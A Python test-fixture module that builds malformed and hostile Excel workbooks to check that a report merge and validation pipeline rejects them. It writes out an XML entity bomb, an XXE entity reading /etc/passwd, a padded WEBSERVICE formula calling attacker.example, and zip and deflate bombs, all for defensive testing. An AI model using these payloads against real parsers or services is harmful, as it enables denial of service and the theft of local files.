"""Hostile returns (issue 13 item 1): each builder takes a good unit return and writes, in
`dst`, a small file that once crashed or fooled the merge and validate jobs. Raw zip
and XML edits, as an attacker or a broken tool would make them; every file stays small
(kilobytes) except where its declared size is the point (a sparse file).

`HOSTILE` maps a case name to (builder, expected problem code)."""

from __future__ import annotations

import os
import re
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

# what the base return (unit PTP, tasks 1.2 and 2.2 as lead) reports: a clean file before the damage
BASE_ANSWERS = {"1.2": {"progress": "Đang thực hiện"}, "2.2": {"progress": "Đang thực hiện"}}
REPORT_PART = "xl/worksheets/sheet2.xml"  # `Báo cáo` in a workbook written by units generate
META_PART = "xl/worksheets/sheet3.xml"  # `_parc_xl`


def _rewrite(src: Path, dst: Path, part: str, change: Callable[[bytes], bytes]) -> Path:
    dst.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == part:
                data = change(data)
            zout.writestr(info, data, zipfile.ZIP_DEFLATED)
    return dst


def _before_sheet_data_end(extra: bytes) -> Callable[[bytes], bytes]:
    def change(xml: bytes) -> bytes:
        return xml.replace(b"</sheetData>", extra + b"</sheetData>", 1)
    return change


def _no_dimension(xml: bytes) -> bytes:
    return re.sub(rb"<dimension [^>]*/>", b"", xml, count=1)


def far_cell_meta(src: Path, dst: Path) -> Path:
    """One cell at XFD1048576 in the hidden metadata sheet: python-calamine asks for the
    whole 1,048,576 × 16,384 grid (≈550 GB) and the process aborts."""
    return _rewrite(src, dst, META_PART, lambda x: _before_sheet_data_end(
        b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')(_no_dimension(x)))


def far_cell_report(src: Path, dst: Path) -> Path:
    """The same far cell in `Báo cáo`, under a `<dimension>` that claims A1:N8."""
    return _rewrite(src, dst, REPORT_PART, _before_sheet_data_end(
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))


def wide_rows_meta(src: Path, dst: Path) -> Path:
    """5,000 rows each with a cell in column XFD in the metadata sheet: 15 KB on disk,
    a 5,000 × 16,384 grid (≈3 GiB) in the reader."""
    rows = b"".join(b'<row r="%d"><c r="XFD%d"><v>1</v></c></row>' % (r, r) for r in range(100, 5100))
    return _rewrite(src, dst, META_PART, lambda x: _before_sheet_data_end(rows)(_no_dimension(x)))


def too_many_columns(src: Path, dst: Path) -> Path:
    """A value in column CX (101) of `Báo cáo`: past the documented 100-column limit."""
    return _rewrite(src, dst, REPORT_PART, lambda x: _before_sheet_data_end(
        b'<row r="9"><c r="CX9"><v>7</v></c></row>')(_no_dimension(x)))


def raw_ampersand_report(src: Path, dst: Path) -> Path:
    """A bare `&` in the sheet XML (a broken writer): not well-formed."""
    return _rewrite(src, dst, REPORT_PART, lambda x: x.replace(b"<t>", b"<t>A & B ", 1))


def raw_ampersand_meta(src: Path, dst: Path) -> Path:
    return _rewrite(src, dst, META_PART, lambda x: x.replace(b"<t>", b"<t>A & B ", 1))


_BOMB = (b'<?xml version="1.0"?>\n<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
         + b"".join(b'<!ENTITY %s "%s">' % (bytes([98 + i]), (b"&" + bytes([97 + i]) + b";") * 10)
                    for i in range(8))
         + b"]>")


def entity_bomb_report(src: Path, dst: Path) -> Path:
    """An XML entity bomb (10^9 characters from 1 KB) declared in `Báo cáo`."""
    return _rewrite(src, dst, REPORT_PART, lambda x: _BOMB + x.replace(b"<t>", b"<t>&i;", 1))


def entity_bomb_meta(src: Path, dst: Path) -> Path:
    return _rewrite(src, dst, META_PART, lambda x: _BOMB + x.replace(b"<t>", b"<t>&i;", 1))


def external_entity(src: Path, dst: Path) -> Path:
    """XXE: an external entity naming a local file."""
    dtd = b'<?xml version="1.0"?>\n<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return _rewrite(src, dst, REPORT_PART, lambda x: dtd + x.replace(b"<t>", b"<t>&x;", 1))


def _patch_entry(src: Path, dst: Path, part: str, crc_xor: int = 0, flag_or: int = 0) -> Path:
    """Change the CRC and/or the general-purpose flags of `part` in both its local header
    and its central-directory record, leaving every byte of data as it was."""
    data = bytearray(src.read_bytes())
    name = part.encode()
    with zipfile.ZipFile(src) as zf:
        info = zf.getinfo(part)
    local = info.header_offset
    assert data[local:local + 4] == b"PK\x03\x04"
    flags, = struct.unpack_from("<H", data, local + 6)
    crc, = struct.unpack_from("<I", data, local + 14)
    struct.pack_into("<H", data, local + 6, flags | flag_or)
    struct.pack_into("<I", data, local + 14, crc ^ crc_xor)
    pos = data.find(b"PK\x01\x02")
    while pos >= 0:
        n, = struct.unpack_from("<H", data, pos + 28)
        if bytes(data[pos + 46:pos + 46 + n]) == name:
            flags, = struct.unpack_from("<H", data, pos + 8)
            crc, = struct.unpack_from("<I", data, pos + 16)
            struct.pack_into("<H", data, pos + 8, flags | flag_or)
            struct.pack_into("<I", data, pos + 16, crc ^ crc_xor)
        pos = data.find(b"PK\x01\x02", pos + 4)
    dst.parent.mkdir(parents=True, exist_ok=True)
    dst.write_bytes(bytes(data))
    return dst


def bad_crc_report(src: Path, dst: Path) -> Path:
    """The `Báo cáo` entry's CRC does not match its data (a damaged download)."""
    return _patch_entry(src, dst, REPORT_PART, crc_xor=0x5A5A5A5A)


def bad_crc_meta(src: Path, dst: Path) -> Path:
    return _patch_entry(src, dst, META_PART, crc_xor=0x5A5A5A5A)


def encrypted_flag(src: Path, dst: Path) -> Path:
    """The zip "encrypted" flag on `Báo cáo` (zip-level encryption, which no Office
    program writes)."""
    return _patch_entry(src, dst, REPORT_PART, flag_or=0x1)


def _set_cell(ref: str, cell: bytes) -> Callable[[bytes], bytes]:
    """Replace cell `ref` (the styled empty cell a generated row has) by `cell`."""
    row = re.sub(r"[A-Z]+", "", ref).encode()

    def change(xml: bytes) -> bytes:
        pattern = rb'<c r="%s"(?:[^>]*/>|[^>]*>.*?</c>)' % ref.encode()
        if re.search(pattern, xml, flags=re.S):
            return re.sub(pattern, lambda _: cell, xml, count=1, flags=re.S)
        return re.sub(rb'(<row r="%s"[^>]*>.*?)(</row>)' % row, lambda m: m.group(1) + cell + m.group(2), xml,
                      count=1, flags=re.S)
    return change


def cell_too_long(src: Path, dst: Path) -> Path:
    """40,000 characters in a fill cell (M6, task 1.2's difficulties): Excel keeps at most
    32,767 in a cell, so the file was not saved by Excel and the text cannot be stored in
    the master as it is."""
    long = ("Báo cáo số 7/BC-PNV " * 2000).encode()
    return _rewrite(src, dst, REPORT_PART, _set_cell("M6", b'<c r="M6" t="inlineStr"><is><t>' + long + b"</t></is></c>"))


PADDED_VALUE = "Quyết định số 1/QĐ-UBND"


def padded_formula(src: Path, dst: Path) -> Path:
    """A WEBSERVICE() formula in the evidence cell of task 1.2 (K6), its `<c` tag padded
    with 5,000 spaces before the attributes, and a cached value a reader would take for
    typed text."""
    pad = b" " * 5000
    cell = (b'<c' + pad + b'r="K6" t="str"><f>WEBSERVICE("http://attacker.example/x")</f>'
            + f"<v>{PADDED_VALUE}</v></c>".encode())
    return _rewrite(src, dst, REPORT_PART, _set_cell("K6", cell))


def sparse_huge(src: Path, dst: Path) -> Path:
    """A 4 GB file that is almost all holes (zip bytes, then a seek): refused by its size,
    never read or hashed."""
    dst.parent.mkdir(parents=True, exist_ok=True)
    dst.write_bytes(src.read_bytes())
    with dst.open("r+b") as fh:
        fh.truncate(4 * 1024 ** 3)
    return dst


def many_entries(src: Path, dst: Path) -> Path:
    """20,000 empty zip entries (a central directory that costs more to list than to send)."""
    dst.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            zout.writestr(info, zin.read(info.filename))
        for i in range(20000):
            zout.writestr(f"customXml/x{i}.xml", b"")
    return dst


def deflate_bomb(src: Path, dst: Path) -> Path:
    """An extra part of 60 MB of zeros deflated to ≈60 KB."""
    dst.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info, zin.read(info.filename), zipfile.ZIP_DEFLATED)
        zout.writestr("xl/media/zeros.bin", b"\0" * (60 * 1024 * 1024), zipfile.ZIP_DEFLATED)
    return dst


def shared_strings_count(src: Path, dst: Path) -> Path:
    """A shared-string table declaring 4·10^9 strings (it holds one): python-calamine
    reserves room for all of them (≈96 GB) when it opens the workbook, and aborts."""
    dst.parent.mkdir(parents=True, exist_ok=True)
    sst = (b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="4000000000" '
           b'uniqueCount="4000000000"><si><t>a</t></si></sst>')
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
            elif info.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Id="rId99" Type="http://schemas.openxmlformats'
                                    b'.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
                                    b"</Relationships>")
            zout.writestr(info, data, zipfile.ZIP_DEFLATED)
        zout.writestr("xl/sharedStrings.xml", sst, zipfile.ZIP_DEFLATED)
    return dst


# case → (builder, the problem code the file's record carries)
HOSTILE: dict[str, tuple[Callable[[Path, Path], Path], str]] = {
    "far_cell_meta": (far_cell_meta, "too-large"),
    "far_cell_report": (far_cell_report, "too-large"),
    "wide_rows_meta": (wide_rows_meta, "too-large"),
    "too_many_columns": (too_many_columns, "too-large"),
    "shared_strings_count": (shared_strings_count, "package-unsafe"),
    "raw_ampersand_report": (raw_ampersand_report, "package-damaged"),
    "raw_ampersand_meta": (raw_ampersand_meta, "package-damaged"),
    "entity_bomb_report": (entity_bomb_report, "package-unsafe"),
    "entity_bomb_meta": (entity_bomb_meta, "package-unsafe"),
    "external_entity": (external_entity, "package-unsafe"),
    "bad_crc_report": (bad_crc_report, "package-damaged"),
    "bad_crc_meta": (bad_crc_meta, "package-damaged"),
    "encrypted_flag": (encrypted_flag, "encrypted"),
    "cell_too_long": (cell_too_long, "cell-too-long"),
    "padded_formula": (padded_formula, "formula-in-fill"),
    "sparse_huge": (sparse_huge, "too-large"),
    "many_entries": (many_entries, "package-unsafe"),
    "deflate_bomb": (deflate_bomb, "too-large"),
}


def sparse_supported(folder: Path) -> bool:
    """Whether `folder`'s file system stores a 4 GB hole without writing it."""
    probe = folder / ".sparse_probe"
    try:
        with probe.open("wb") as fh:
            fh.truncate(4 * 1024 ** 3)
        return os.stat(probe).st_blocks * 512 < 1024 ** 2
    except OSError:
        return False
    finally:
        probe.unlink(missing_ok=True)
